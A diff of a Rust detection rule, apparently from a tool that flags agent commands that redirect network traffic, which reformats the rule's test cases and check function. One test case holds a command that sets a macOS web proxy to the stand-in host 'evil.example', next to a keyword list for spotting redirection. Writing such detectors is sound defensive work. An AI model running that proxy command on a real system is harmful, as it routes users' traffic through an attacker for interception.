@@ -15,15 +15,14 @@ pub(super) const RULE: Rule = Rule {
     operation: Operation::Configure,
     kinds: &[EffectKind::TrafficRedirect],
     check,
-    fires: &[
-        Case { action: "networksetup -setwebproxy Wi-Fi evil.example 8080", says: "" },
-    ],
-    silent: &[
-        Case { action: "scutil --proxy", says: "" },
-        Case { action: "cat /etc/hosts", says: "" },
-    ],
+    fires: &[Case { action: "networksetup -setwebproxy Wi-Fi evil.example 8080", says: "" }],
+    silent: &[Case { action: "scutil --proxy", says: "" }, Case { action: "cat /etc/hosts", says: "" }],
 };
 
 fn check(effect: &Effect, _: &Context<'_>) -> Option<Hit> {
-    Some(Hit::new(format!("traffic would go elsewhere: {}", names(&effect.targets))).naming_word(&["proxy", "dns", "hosts", "base url", "route", "endpoint"]).safer(effect, ""))
+    Some(
+        Hit::new(format!("traffic would go elsewhere: {}", names(&effect.targets)))
+            .naming_word(&["proxy", "dns", "hosts", "base url", "route", "endpoint"])
+            .safer(effect, ""),
+    )
 }
